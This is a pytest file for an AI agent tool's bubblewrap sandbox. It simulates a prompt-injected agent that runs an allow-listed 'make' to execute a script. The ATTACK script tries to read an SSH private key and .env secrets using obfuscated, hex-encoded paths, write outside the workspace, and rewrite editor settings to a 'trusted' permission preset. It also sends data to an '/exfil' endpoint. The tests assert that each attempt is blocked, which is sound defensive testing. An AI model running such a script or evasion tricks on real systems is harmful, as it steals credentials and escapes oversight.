"""The sandbox by default, through the real language server (bubblewrap installed).

A prompt-injected agent writes a script and runs it with a command the user allow-listed
(``commandRules``), as a test runner would run a ``conftest.py``: under the default settings
the script cannot write outside the workspace, read a denied file or reach a local server.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from lovia.workspace.sandbox import BubblewrapExecutor
from lovia_server.protocol.settings import DEFAULT_DENIED_PATHS
from tests.server.harness import AGENT_HEADER, Harness
from tests.support.counting_server import CountingServer

pytestmark = pytest.mark.skipif(
    not BubblewrapExecutor.available(), reason="bwrap cannot create namespaces on this machine"
)

ATTACK = r"""
import json, os, socket, sys, urllib.request
port, outside, home = PORT, bytes.fromhex(OUTSIDE).decode(), bytes.fromhex(HOME).decode()
key = os.path.join(home, ".s" + "sh", "id_rsa")
seen = {}
for name, path in (("key", key), ("env", ".env")):
    try:
        seen[name] = open(path).read()
    except OSError as exc:
        seen[name] = f"refused: {exc.strerror}"
try:
    open(os.path.join(outside, "pwned.txt"), "w").write("pwned")
    seen["write"] = "wrote"
except OSError as exc:
    seen["write"] = f"refused: {exc.strerror}"
try:
    os.makedirs(".vscode", exist_ok=True)
    open(".vscode/settings.json", "w").write('{"lovia.permissions.preset": "trusted"}')
    seen["config"] = "wrote"
except OSError as exc:
    seen["config"] = f"refused: {exc.strerror}"
try:
    socket.create_connection(("127.0.0.1", port), timeout=3).close()
    seen["socket"] = "connected"
except OSError as exc:
    seen["socket"] = f"refused: {exc}"
try:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/exfil?d=secret", timeout=10) as r:
        seen["http"] = r.read().decode()
except Exception as exc:
    seen["http"] = f"refused: {exc}"
print("RESULT " + json.dumps(seen))
"""


@pytest.fixture
def web() -> Iterator[CountingServer]:
    server = CountingServer()
    yield server
    server.close()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A HOME of the server's own, with a private key where ``~/.ssh`` is denied."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN PRIVATE KEY----- HOMEKEY\n")
    (home / ".gitconfig").write_text("[user]\n\tname = Tester\n\temail = t@example.com\n")
    return home


def _attack_agent(script: str) -> str:
    """The injected agent writes a script and a Makefile that runs it, then runs ``make``."""
    makefile = "test:\n\t@python3 conftest_like.py\n"
    return (
        AGENT_HEADER
        + f"""
agent = Agent(
    name="injected",
    model=ScriptedProvider([
        call("write_file", {{"path": "conftest_like.py", "content": {script!r}}}, call_id="w1"),
        call("write_file", {{"path": "Makefile", "content": {makefile!r}}}, call_id="w2"),
        call("shell", {{"command": "make"}}, call_id="s1"),
        text("done"),
    ]),
)
"""
    )


def _result(harness: Harness, run_id: str, call_id: str) -> str:
    events = harness.of_run(run_id)
    result = next(e for e in events if e["kind"] == "tool.result" and e["toolCallId"] == call_id)
    return str(result["content"][0]["text"])


def _seen(output: str) -> dict[str, str]:
    line = next(x for x in output.splitlines() if x.startswith("RESULT "))
    return dict(json.loads(line.removeprefix("RESULT ")))


async def _run_attack(
    harness: Harness,
    tmp_path: Path,
    home: Path,
    web: CountingServer,
    sandbox: dict[str, Any],
    *,
    allow_rule: bool = True,
) -> tuple[dict[str, str], str]:
    (harness.root / ".env").write_text("TOKEN=workspace-secret\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    # the paths are hex in the script: no guard can see them, the sandbox must hold
    values = f"PORT = {web.port}\nOUTSIDE = {str(outside).encode().hex()!r}\n"
    values += f"HOME = {str(home).encode().hex()!r}\n"
    spec = harness.write_agent(_attack_agent(values + ATTACK))
    settings = {
        "agent": spec,
        "permissions": {
            "commandRules": [{"pattern": "make", "decision": "allow"}] if allow_rule else []
        },
        "sandbox": sandbox,
    }
    await harness.start(settings=settings, env={"HOME": str(home)})
    run = await harness.run("run the tests")
    done = await harness.approve_all(run["runId"])
    assert done["status"] == "completed"
    asked = [
        e["toolCallId"] for e in harness.of_run(run["runId"]) if e["kind"] == "approval.requested"
    ]
    # the writes were reviewed; the allow-listed command ran unasked
    assert asked == (["w1", "w2"] if allow_rule else ["w1", "w2", "s1"])
    output = _result(harness, run["runId"], "s1")
    assert not (outside / "pwned.txt").exists()
    return _seen(output), output


async def test_an_allowed_command_is_confined_under_the_default_settings(
    harness: Harness, tmp_path: Path, home: Path, web: CountingServer
) -> None:
    seen, output = await _run_attack(harness, tmp_path, home, web, {})
    assert "HOMEKEY" not in output and "workspace-secret" not in output
    assert seen["key"].startswith("refused") and seen["env"].startswith("refused")
    assert seen["write"].startswith("refused")
    assert seen["config"].startswith("refused")  # .vscode is protected, even while missing
    assert not (harness.root / ".vscode").exists()
    assert seen["socket"].startswith("refused") and seen["http"].startswith("refused")
    assert web.connections == 0  # nothing reached the local server
    assert "network access to 127.0.0.1:" in output
    assert "lovia.sandbox.allowedDomains" in output  # the refusal says how to allow it


async def test_an_allowlisted_host_is_reached_through_the_proxy_only(
    harness: Harness, tmp_path: Path, home: Path, web: CountingServer
) -> None:
    allowed = {"allowedDomains": [f"127.0.0.1:{web.port}"]}
    seen, output = await _run_attack(harness, tmp_path, home, web, allowed)
    assert seen["http"] == "hello from the host"
    assert web.requests == ["GET /exfil?d=secret HTTP/1.1"]  # through the proxy, once
    assert seen["socket"].startswith("refused")  # a direct connection still fails
    assert "HOMEKEY" not in output and "workspace-secret" not in output
    assert seen["write"].startswith("refused")


async def test_an_approved_command_sees_outside_but_not_denied_files_nor_the_network(
    harness: Harness, tmp_path: Path, home: Path, web: CountingServer
) -> None:
    """Approving ``make`` opens reads outside (an ``ask`` scope), not ``~/.ssh``, not writes
    outside, and not the network (make is no network command)."""
    seen, output = await _run_attack(harness, tmp_path, home, web, {}, allow_rule=False)
    assert "HOMEKEY" not in output and "workspace-secret" not in output
    assert seen["key"] == "refused: No such file or directory"  # ~/.ssh is an empty mask
    assert seen["write"] == "refused: Read-only file system"
    assert seen["socket"].startswith("refused") and seen["http"].startswith("refused")
    assert web.connections == 0
    card = next(
        e for e in harness.events if e["kind"] == "approval.requested" and e["toolCallId"] == "s1"
    )
    assert card["detail"].endswith("It runs in the sandbox without network access.")


CURL_AGENT = (
    AGENT_HEADER
    + """
agent = Agent(
    name="fetcher",
    model=ScriptedProvider([
        call("shell", {"command": "curl -sS --noproxy '*' http://127.0.0.1:PORT/pkg"}, call_id="c1"),
        text("fetched"),
    ]),
)
"""
)


async def test_an_approved_network_command_gets_the_network_and_the_card_says_so(
    harness: Harness, web: CountingServer
) -> None:
    spec = harness.write_agent(CURL_AGENT.replace("PORT", str(web.port)))
    await harness.start(settings={"agent": spec})
    run = await harness.run("fetch it")
    card = await harness.wait_kind(run["runId"], "approval.requested", toolCallId="c1")
    assert "as a network command it gets network access once" in card["detail"]
    done = await harness.approve_all(run["runId"])
    assert done["status"] == "completed"
    assert "hello from the host" in _result(harness, run["runId"], "c1")
    assert web.requests == ["GET /pkg HTTP/1.1"]


def _git(root: Path, *args: str, home: Path) -> str:
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(
        ["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout


GIT_AGENT = (
    AGENT_HEADER
    + """
agent = Agent(
    name="git",
    model=ScriptedProvider([
        call("shell", {"command": "git status --short"}, call_id="g1"),
        call("shell", {"command": "git log --oneline"}, call_id="g2"),
        call("shell", {"command": "git commit --allow-empty -m unasked"}, call_id="g0"),
        call("shell", {"command": "echo change >> notes.txt"}, call_id="g3"),
        call("shell", {"command": "git commit -am 'from the sandbox'"}, call_id="g4"),
        text("committed"),
    ]),
)
"""
)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
async def test_git_works_in_the_sandbox(harness: Harness, home: Path) -> None:
    root = harness.root
    (root / "notes.txt").write_text("first\n")
    spec = harness.write_agent(GIT_AGENT)
    _git(root, "init", "-q", home=home)
    _git(root, "add", "notes.txt", home=home)
    _git(root, "commit", "-qm", "initial", home=home)
    # default deny and protected paths: .git is protected (read-only unless approved)
    assert ".git" not in DEFAULT_DENIED_PATHS and "**/.git/**" not in DEFAULT_DENIED_PATHS
    settings = {
        "agent": spec,
        "permissions": {
            "commandRules": [
                {"pattern": "git status", "decision": "allow"},
                {"pattern": "git log", "decision": "allow"},
                {"pattern": "git commit --allow-empty", "decision": "allow"},
            ],
        },
    }
    await harness.start(settings=settings, env={"HOME": str(home)})
    status = await harness.request("lovia/status", {})
    assert status["sandbox"]["enabled"] is True
    run = await harness.run("commit it")
    done = await harness.approve_all(run["runId"])
    assert done["status"] == "completed"
    rid = run["runId"]
    asked = [e["toolCallId"] for e in harness.of_run(rid) if e["kind"] == "approval.requested"]
    assert asked == ["g3", "g4"]  # status, log and the allow-listed commit ran unasked
    assert "?? agent.py" in _result(harness, rid, "g1")
    assert "initial" in _result(harness, rid, "g2")
    # git writes objects and refs unasked (with the user's identity from ~/.gitconfig); what
    # could run code (config, hooks) stays read-only: the sandbox tests show that part
    assert "exit code: 0" in _result(harness, rid, "g0")
    assert "exit code: 0" in _result(harness, rid, "g4")
    log = _git(root, "log", "--oneline", home=home)
    assert "from the sandbox" in log and "unasked" in log


async def test_status_reports_the_sandbox(harness: Harness) -> None:
    await harness.start(settings={"sandbox": {"allowedDomains": ["pypi.org"]}})
    status = await harness.request("lovia/status", {})
    assert status["sandbox"] == {
        "kind": "bubblewrap",
        "enabled": True,
        "setting": "auto",
        "network": "ask",
        "allowedDomains": ["pypi.org"],
        "reason": None,
    }


ECHO_AGENT = (
    AGENT_HEADER
    + """
agent = Agent(
    name="echo",
    model=ScriptedProvider([call("shell", {"command": "echo ran"}, call_id="e1"), text("ok")]),
)
"""
)


async def test_without_bubblewrap_the_status_says_so_and_commands_run_unconfined(
    harness: Harness,
) -> None:
    spec = harness.write_agent(ECHO_AGENT)
    missing = {"LOVIA_SANDBOX_BWRAP": "/nonexistent/bwrap"}
    await harness.start(settings={"agent": spec}, env=missing)
    status = await harness.request("lovia/status", {})
    sandbox = status["sandbox"]
    assert sandbox["enabled"] is False and sandbox["kind"] is None
    assert sandbox["reason"].startswith("Shell commands are not sandboxed on this machine")
    assert status["settingsProblems"] == []
    run = await harness.run("echo")
    await harness.approve_all(run["runId"])
    assert "ran" in _result(harness, run["runId"], "e1")


async def test_sandbox_on_without_bubblewrap_is_a_settings_problem_and_commands_refuse(
    harness: Harness,
) -> None:
    spec = harness.write_agent(ECHO_AGENT)
    settings = {"agent": spec, "sandbox": {"enabled": "on"}}
    await harness.start(settings=settings, env={"LOVIA_SANDBOX_BWRAP": "/nonexistent/bwrap"})
    status = await harness.request("lovia/status", {})
    assert status["sandbox"]["enabled"] is False
    (problem,) = status["settingsProblems"]
    assert problem.startswith("lovia.sandbox.enabled: 'on', but bubblewrap")
    run = await harness.run("echo")
    done = await harness.approve_all(run["runId"])
    assert done["status"] == "completed"
    output = _result(harness, run["runId"], "e1")
    assert "must run in the sandbox" in output and "ran" not in output.split("sandbox")[0]
